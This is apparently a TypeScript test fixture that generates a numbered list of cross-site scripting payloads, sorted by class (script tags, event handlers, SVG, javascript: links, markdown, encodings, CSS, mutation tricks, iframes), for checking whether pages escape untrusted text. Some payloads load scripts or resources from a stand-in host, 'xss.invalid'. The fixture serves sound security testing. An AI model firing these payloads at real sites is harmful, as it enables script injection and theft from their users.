/** A text that calls `__hit` or sends a request to a foreign host if a page treats it as more than text. */
export type Payload = { n: number; text: string };

const host = '//xss.invalid';

/** Payloads by class; `n` is the number that a payload reports when it runs. */
const attacks: Record<string, ((n: number) => string)[]> = {
  scripts: [
    (n) => `<script>__hit(${n})</script>`,
    (n) => `<ScRiPt >__hit(${n})</sCrIpT >`,
    (n) => `<script src=${host}/${n}></script>`,
    (n) => `<script type=module>__hit(${n})</script>`,
    (n) => `<scr<script>ipt>__hit(${n})</scr</script>ipt>`,
    (n) => `"><script>__hit(${n})</script>`,
    (n) => `--><script>__hit(${n})</script><!--`,
    (n) => `]]><script>__hit(${n})</script>`,
  ],
  handlers: [
    (n) => `<img src=x onerror=__hit(${n})>`,
    (n) => `<img/src="x"/onerror=__hit(${n})//`,
    (n) => `<body onload=__hit(${n})>`,
    (n) => `<input autofocus onfocus=__hit(${n})>`,
    (n) => `<details open ontoggle=__hit(${n})>`,
    (n) => `<video><source onerror=__hit(${n})>`,
    (n) => `<audio src=x onerror=__hit(${n})>`,
    (n) => `<marquee onstart=__hit(${n})>x</marquee>`,
    (n) => `<b onpointerover=alert(${n})>over</b>`,
    (n) => `<x contenteditable onblur=__hit(${n})>y`,
  ],
  svg: [
    (n) => `<svg onload=__hit(${n})>`,
    (n) => `<svg/onload=alert(${n})>`,
    (n) => `<svg><script>__hit(${n})</script>`,
    (n) => `<svg><a href="javascript:__hit(${n})"><text y=9>t`,
    (n) => `<svg><animate onbegin=__hit(${n}) attributeName=x>`,
    (n) => `<svg><image href=x onerror=__hit(${n})>`,
    (n) => `</text></svg><svg onload=__hit(${n})>`,
    (n) => `<svg><foreignObject><img src=x onerror=__hit(${n})>`,
  ],
  links: [
    (n) => `<a href="javascript:__hit(${n})">x</a>`,
    (n) => `<a href="java&Tab;script:__hit(${n})">x</a>`,
    (n) => `<a href="&#106;avascript:__hit(${n})">x</a>`,
    (n) => `javascript:__hit(${n})`,
    (n) => `javascript://%0a__hit(${n})`,
    (n) => `<form action="javascript:__hit(${n})"><button>x`,
  ],
  markdown: [
    (n) => `[x](javascript:__hit(${n}))`,
    (n) => `[x](https://x" onmouseover=__hit(${n}) y=")`,
    (n) => `[x](data:text/html,<script>__hit(${n})</script>)`,
    (n) => `![x](x"onerror=__hit(${n}))`,
    (n) => `**<img src=x onerror=__hit(${n})>**`,
    (n) => `\`<svg onload=__hit(${n})>\``,
  ],
  attributes: [
    (n) => `" onmouseover=__hit(${n}) autofocus onfocus=__hit(${n}) "`,
    (n) => `' onfocus=__hit(${n}) autofocus '`,
    (n) => `"><img src=x onerror=__hit(${n})>`,
    (n) => `'><svg onload=__hit(${n})>`,
    (n) => `\`><img src=x onerror=__hit(${n})>`,
  ],
  'rawtext and JSON': [
    (n) => `</script><script>__hit(${n})</script>`,
    (n) => `</style><script>__hit(${n})</script>`,
    (n) => `</title><script>__hit(${n})</script>`,
    (n) => `</textarea><img src=x onerror=__hit(${n})>`,
    (n) => `</noscript><img src=x onerror=__hit(${n})>`,
    (n) => `"};__hit(${n});//`,
    (n) => `\${__hit(${n})}{{__hit(${n})}}`,
    (n) => `<!--</script><script>__hit(${n})//`,
  ],
  encodings: [
    (n) => `&lt;img src=x onerror=__hit(${n})&gt;`,
    (n) => `%3Cscript%3E__hit(${n})%3C/script%3E`,
    (n) => `\\u003cscript\\u003e__hit(${n})\\u003c/script\\u003e`,
    (n) => `\\x3cimg src=x onerror=__hit(${n})\\x3e`,
    (n) => `\uff1cscript\uff1e__hit(${n})\uff1c/script\uff1e`,
    (n) => `+ADw-script+AD4-__hit(${n})+ADw-/script+AD4-`,
  ],
  styles: [
    (n) => `<style>@import '${host}/${n}';</style>`,
    (n) => `<link rel=stylesheet href=${host}/${n}>`,
    (n) => `<p style="background:url(${host}/${n})">x`,
    (n) => `red;background:url(${host}/${n})`,
  ],
  mutations: [
    (n) => `<math><mtext><style><img title="</style><img src=x onerror=__hit(${n})>">`,
    (n) => `<noscript><p title="</noscript><img src=x onerror=__hit(${n})>">`,
    (n) => `<svg></p><style><g title="</style><img src=x onerror=__hit(${n})>">`,
  ],
  documents: [
    (n) => `<meta http-equiv=refresh content="0;url=${host}/${n}">`,
    (n) => `<base href=${host}/${n}/>`,
    (n) => `<iframe srcdoc="<script>parent.__hit(${n})</script>">`,
    (n) => `<iframe src="javascript:parent.__hit(${n})">`,
    (n) => `<iframe src="data:text/html,<script src=${host}/${n}></script>">`,
    (n) => `<object data="data:text/html,<script src=${host}/${n}></script>">`,
    (n) => `<embed src=${host}/${n}>`,
  ],
};

/** Returns the mark at the end of a payload, by which tests recognise a payload that is shown as text. */
export const formatPayloadMark = (n: number): string => `~${n}~`;

/** All payloads, each with its mark. */
export const payloads: readonly Payload[] = Object.values(attacks)
  .flat()
  .map((attack, n) => ({ n, text: `${attack(n)} ${formatPayloadMark(n)}` }));

/** Returns the numbers of the payloads whose marks are in a text. */
export const findMarks = (text: string): Set<number> =>
  new Set([...text.matchAll(/~(\d+)~/g)].map(([, n]) => Number(n)));

/** Returns the payloads in chunks of a size. */
export const chunkPayloads = (size: number): Payload[][] =>
  Array.from({ length: Math.ceil(payloads.length / size) }, (_, i) =>
    payloads.slice(i * size, (i + 1) * size),
  );

/** Joins the texts of several payloads for one field. */
export const joinPayloads = (some: readonly Payload[], between = ' '): string =>
  some.map(({ text }) => text).join(between);
